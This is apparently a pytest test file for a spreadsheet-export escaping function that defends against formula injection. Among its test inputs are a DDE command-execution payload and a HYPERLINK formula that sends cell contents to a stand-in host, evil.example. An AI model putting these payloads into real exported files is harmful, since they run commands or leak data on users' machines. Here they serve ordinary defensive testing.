"""Cells that a spreadsheet would run, and those that it must leave alone."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from footfall_eval.exports.spreadsheet import escape_formula, unescape_formula

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
        "'=1+1",
    ],
)
def test_formulas_become_text(text):
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Oat milk", "-1.5", "+3e-4", ".5", "a=b", "'tis", "7-Up"])
def test_everything_else_stays_as_it_is(text):
    assert escape_formula(text) == text


@given(st.text(alphabet=st.one_of(st.sampled_from(STARTS + "' 1a"), st.characters())))
def test_nothing_is_lost_and_no_formula_is_left(text):
    safe = escape_formula(text)
    assert unescape_formula(safe) == text
    assert safe[:1] not in set(STARTS) or safe.strip("+-").replace(".", "").isalnum()
